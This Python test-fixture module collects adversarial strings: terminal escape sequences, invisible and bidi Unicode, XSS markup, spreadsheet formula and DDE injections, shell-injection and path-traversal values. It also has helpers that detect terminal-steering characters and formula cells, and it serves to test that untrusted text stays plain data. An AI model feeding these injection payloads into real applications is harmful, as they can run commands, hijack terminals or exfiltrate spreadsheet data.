"""Texts that try to be more than text, by what they would do where they are not kept as data.

They are put wherever data comes from, and nothing of them may steer a terminal, be markup or a formula, or lead out of
a folder. `steering` says what got through to a terminal.
"""

from __future__ import annotations

import re
from typing import Final

# Colours and moves that the program itself never writes, so that those of the payloads can be told from its own.
TERMINAL: Final = {
    "csi-colour": "\x1b[38;5;201mpink\x1b[0;5m",
    "csi-clear": "\x1b[3J\x1b[2;2H",
    "csi-report": "\x1b[21t\x1b[5n",
    "csi-cut": "cut \x1b[",
    "osc-title": "\x1b]0;title\x07",
    "osc-clipboard": "\x1b]52;c;cm0gLXJm\x1b\\",
    "osc-link": "\x1b]8;;http://link.example\x1b\\here\x1b]8;;\x1b\\",
    "osc-open": "\x1b]1337;File=name=eA==:eA==",
    "dcs": '\x1bP$q"p\x1b\\',
    "apc": "\x1b_Gf=100;AAAA\x1b\\",
    "sos": "\x1bXtext\x1b\\",
    "pm": "\x1b^text\x1b\\",
    "reset": "\x1bc",
    "charset": "\x1b(0lqk\x0e",
    "c1-all": "".join(map(chr, range(0x80, 0xA0))),
    "c1-csi": "\x9b38;5;201mpink",
    "c1-osc": "\x9d0;title\x9c",
    "c1-dcs": "\x90q\x9c",
    "c0-all": "".join(chr(code) for code in range(1, 0x20) if chr(code) not in "\t\n\r"),
    "nul": "a\0b",
    "bell": "\a\a",
    "backspace": "no\b\byes",
    "carriage-return": "harmless\rharmful",
    "vertical-tab": "a\vb\fc",
    "next-line": "a\x85b",
    "separators": "a\u2028b\u2029c",
    "delete": "\x7f\x7fx",
    "escape-last": "ends \x1b",
}
UNSEEN: Final = {
    "bidi-override": "invoice\u202efdp.exe",
    "bidi-embedding": "\u202aa\u202bb\u202cc\u202dd",
    "bidi-isolates": "\u2066a\u2067b\u2068c\u2069\u2069",
    "bidi-marks": "\u200ea\u200fb\u061cc",
    "bidi-before-markup": "\u202e  # heading\u202c",
    "mark-before-list": "\u200e\u200e    - item",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e",
    "byte-order-mark": "\ufeffid",
    "variation-selectors": "a\ufe0e\ufe0f\U000e0100b",
    "tags": "\U000e0001\U000e0061\U000e007f",
    "fillers": "\u115f\u3164\u00ad\u180e",
    "no-characters": "a\ufffe\uffffb",
    "combining-flood": "z" + "\u0301\u0489" * 60,
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627",
    "wide": "南南合作" * 20,
    "long-word": "unbreakable" * 40,
    "tabs": "\ta\t\tb\t",
    "spaces": "   \u00a0 \u3000 x  ",
    "emoji": "\U0001f469\u200d\U0001f4bb\U0001f1f0\U0001f1ed",
    "khmer": "ការ\u200bងារ",
}
MARKUP: Final = {
    "rich-bold": "[bold red]x[/bold red] [/] [/foo]",
    "rich-link": "[link=http://link.example]x[/link] [@click=app.bell]y[/]",
    "rich-escape": "\\[bold] \\",
    "rich-emoji": ":smiley: :warning:",
    "markdown-link": "[a](http://link.example) [b]: http://link.example ![i](http://link.example/i.png)",
    "markdown-autolink": "<http://link.example> https://link.example www.link.example a@link.example",
    "markdown-heading": "# heading",
    "markdown-lines": "text\n===\n- item\n1. one\n> quote\n---",
    "markdown-code": "    code\n```sh\nrm\n```\n~~~\n`` ` ``",
    "markdown-table": "a | b | c\n--|--|--\n1 | 2 | 3",
    "markdown-emphasis": "*a* __b__ ~~c~~ $d$ $$e$$ \\*",
    "markdown-html": "<details open><summary>s</summary></details> <!-- c -->",
    "html-script": "<script>alert(1)</script>",
    "html-closing": "</bdi></p></li></title></style></body></html><script>1</script>",
    "html-attribute": '" onmouseover="alert(1)" x=\'',
    "html-entity": "&lt;b&gt; &#60;b&#62; &amp; &nbsp &#x202e;",
    "html-image": "<img src=x onerror=alert(1)>",
    "html-bidi": "<bdo dir=rtl>x</bdo>",
    "svg": "</text></g></svg><script>1</script><image href='http://link.example'/>",
    "xml": "]]> <![CDATA[x]]> <?xml version='1.0'?> <!DOCTYPE a [<!ENTITY b 'c'>]> &b;",
    "mermaid-end": '"] --> n9["x"]; click n1 "http://link.example"',
    "mermaid-directive": "%%{init: {'theme':'forest','securityLevel':'loose'}}%%",
    "mermaid-words": "end\nsubgraph x\n%% comment\n`md` #quot; fa:fa-car",
}
FORMULAS: Final = {
    "formula-equals": "=1+1",
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("http://link.example?x="&A1,"x")',
    "formula-after-comma": "a,=1+1",
    "formula-after-semicolon": "a;=1+1",
    "formula-after-tab": "a\t=1+1",
    "formula-after-bar": "a|=1+1",
    "formula-after-quotes": '"";"=1+1"',
    "formula-after-line": "a\n=1+1",
    "formula-after-return": "a\r\n=1+1\r=2",
    "formula-after-space": " \u00a0\u200b=1+1",
    "formula-after-bidi": "\u202e=1+1",
    "formula-wide": "\uff1d1\uff0b1",
    "formula-wide-at": "\uff20SUM(1)",
}
SYNTAX: Final = {
    "json-breaker": '"}],"format":"x\\u0000\\"',
    "yaml-breaker": "x: [y, {z: &a *a !!python/object:os.system <<: |\n  - # c\n---\n...\n? \" '",
    "csv-breaker": 'a","b\n"c""d',
    "shell": "$(touch shell-ran) `touch shell-ran` ; touch shell-ran & | > shell-ran",
    "shell-quote": "'; touch shell-ran; '",
    "traversal": "../../outside",
    "absolute": "/tmp/outside",
    "windows": "con nul.txt C:\\x \\\\server\\x",
    "python-format": "{0.__class__} {} {name} {label!r:>9999999999} {{",
    "percent-format": "%s %n %(name)s %% %9999999999d",
    "template-braces": "{title} {file} {language} {id}",
    "dashes": "--erase --output=outside -rf",
    "replies-commands": "/quit",
    "dots": "..",
    "xpath": "' or '1'='1",
    "number-like": "1e999999 NaN Infinity 0x10 १२",
}
# What only JSON can carry, and names of files that are not UTF-8.
HALVES: Final = {"half-high": "a\ud800b", "half-low": "\udcff\udc9b"}

# Several in one, short enough for an argument or the name of a file.
MIXED: Final = (
    "\x1b[38;5;201m\x1b]0;t\a\b\r\n\x7f\t",
    "\x9b5m\x85\u2028\u2029\u202e\u2066\u200f\u061c\ufeff\ufffe",
    "\udc9b\udcff[bold]x[/] [link=x] <script>",
    "=1+1,;=2 | ` [a](http://link.example) # $(touch shell-ran) '\"",
    "%s %n {0.__class__} {title} {file} {id} {} {",
    "--erase",
    "..",
)

PAYLOADS: Final = {**TERMINAL, **UNSEEN, **MARKUP, **FORMULAS, **SYNTAX}
EVERYTHING: Final = {**PAYLOADS, **HALVES}

# Controls but the line break, C1, line separators, what turns the direction, halves and no characters.
STEERING: Final = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ufffe\uffff\ud800-\udfff]"
)
# The colours of problems, of rich for bold, dim and italic, and of the prompts.
_COLOURS: Final = re.compile(
    r"\x1b\[(?:0|1|2|3|22|1;31|1;33|0;1|0;31;1|0;32|0;38;5;8|0;38;5;244|0;38;2;128;128;128|0;90"
    r"|0;38;5;214;1|0;34;1|0;48;5;238|0;48;5;248|0;33;1;4)?m"
)
# What prompts do beside: move, clear to the end of the line or the screen, hide the cursor, no wrapping, pasting.
_MOVES: Final = re.compile(r"\x1b\[(?:[0-9]{0,3}[ABCDGK]|[02]?J|0;0H|6n|\?(?:25|12|7|2004|1)[hl])|\r(?!harmful)")


def steering(text: str, *, has_colours: bool = False, has_prompts: bool = False) -> list[str]:
    """Return what steers a terminal in what was written to one, beside what the program itself writes there."""
    if has_colours:
        text = _COLOURS.sub("", text)
    if has_prompts:
        text = _MOVES.sub("", text)
    around = (text[max(found.start() - 30, 0) : found.end() + 30] for found in STEERING.finditer(text))
    return [repr(each) for each in around]


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet could take a cell for more than text or a number."""
    if cell.startswith(("\t", "\r", "\n")):
        return True
    if not cell.lstrip(' "\xa0\u200b').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False
